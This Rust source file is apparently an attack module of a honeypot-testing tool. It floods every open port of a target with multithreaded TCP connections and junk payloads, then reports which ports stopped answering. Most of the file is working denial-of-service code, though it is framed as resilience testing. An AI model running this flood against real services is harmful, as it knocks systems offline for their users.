// SPDX-License-Identifier: PMPL-1.0-or-later

//! Denial-of-service: flood every open port with connections, then check who survived.

use crate::attack::probe;
use crate::attack::profile::DosSettings;
use crate::attack::{AttackModule, StopSignal};
use crate::types::*;
use anyhow::{bail, Context, Result};
use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};
use tracing::{debug, info};

pub struct DenialOfService {
    target: Arc<HoneypotTarget>,
    settings: DosSettings,
    connect_timeout: Duration,
}

#[derive(Default)]
struct FloodCounters {
    delivered: AtomicU64,
    refused: AtomicU64,
}

impl DenialOfService {
    pub fn new(target: Arc<HoneypotTarget>, settings: DosSettings, connect_timeout: Duration) -> Self {
        Self {
            target,
            settings,
            connect_timeout,
        }
    }

    fn spawn_flood(
        &self,
        addrs: &[SocketAddr],
        stop: &StopSignal,
        flood_stop: &StopSignal,
        deadline: Instant,
        counters: &Arc<FloodCounters>,
    ) -> Result<Vec<JoinHandle<()>>> {
        let threads = self.settings.threads.max(1);
        let mut handles = Vec::with_capacity(threads);

        for worker in 0..threads {
            let addrs = addrs.to_vec();
            let stop = stop.clone();
            let worker_stop = flood_stop.clone();
            let counters = Arc::clone(counters);
            let payload_bytes = self.settings.payload_bytes;
            let connect_timeout = self.connect_timeout;

            let spawned = thread::Builder::new()
                .name(format!("dos-flood-{}", worker))
                .spawn(move || {
                    let payload = vec![0x41_u8; payload_bytes];
                    let mut next = worker;
                    while !stop.is_raised() && !worker_stop.is_raised() && Instant::now() < deadline
                    {
                        let addr = addrs[next % addrs.len()];
                        next = next.wrapping_add(1);
                        match TcpStream::connect_timeout(&addr, connect_timeout) {
                            Ok(mut stream) => {
                                let _ = stream.set_write_timeout(Some(connect_timeout));
                                if stream.write_all(&payload).is_ok() {
                                    counters.delivered.fetch_add(1, Ordering::Relaxed);
                                }
                            }
                            Err(_) => {
                                counters.refused.fetch_add(1, Ordering::Relaxed);
                                thread::sleep(Duration::from_millis(10));
                            }
                        }
                    }
                });

            match spawned {
                Ok(handle) => handles.push(handle),
                Err(err) => {
                    flood_stop.raise();
                    for handle in handles {
                        let _ = handle.join();
                    }
                    return Err(err).context("spawning DoS flood worker");
                }
            }
        }

        Ok(handles)
    }
}

impl AttackModule for DenialOfService {
    fn kind(&self) -> AttackKind {
        AttackKind::DenialOfService
    }

    fn run(&self, stop: &StopSignal) -> Result<AttackResult> {
        let addrs = probe::reachable(&self.target, self.connect_timeout)?;
        let threads = self.settings.threads.max(1);
        let start = Instant::now();
        let deadline = start + Duration::from_secs(self.settings.duration_secs);
        info!(
            target = %self.target.ip,
            ports = addrs.len(),
            threads,
            "starting connection flood"
        );

        let flood_stop = StopSignal::new();
        let counters = Arc::new(FloodCounters::default());
        let handles = self.spawn_flood(&addrs, stop, &flood_stop, deadline, &counters)?;
        for handle in handles {
            let _ = handle.join();
        }

        if stop.is_raised() {
            bail!("DoS flood against {} interrupted", self.target.ip);
        }

        let delivered = counters.delivered.load(Ordering::Relaxed);
        let refused = counters.refused.load(Ordering::Relaxed);
        debug!(delivered, refused, "flood finished, probing liveness");

        let down = probe::down_ports(&addrs, self.connect_timeout);
        let elapsed = start.elapsed().as_secs_f64();
        let result = if down.len() == addrs.len() {
            AttackResult::new(
                true,
                format!(
                    "Honeypot stopped accepting connections on {} after {} flood connections",
                    probe::join_addrs(&down),
                    delivered
                ),
                elapsed,
                threads as u64,
            )
        } else {
            AttackResult::new(
                false,
                format!(
                    "Honeypot survived the flood: {} connections delivered, {} refused, {} of {} ports still answering",
                    delivered,
                    refused,
                    addrs.len() - down.len(),
                    addrs.len()
                ),
                elapsed,
                threads as u64,
            )
        };
        Ok(result)
    }
}
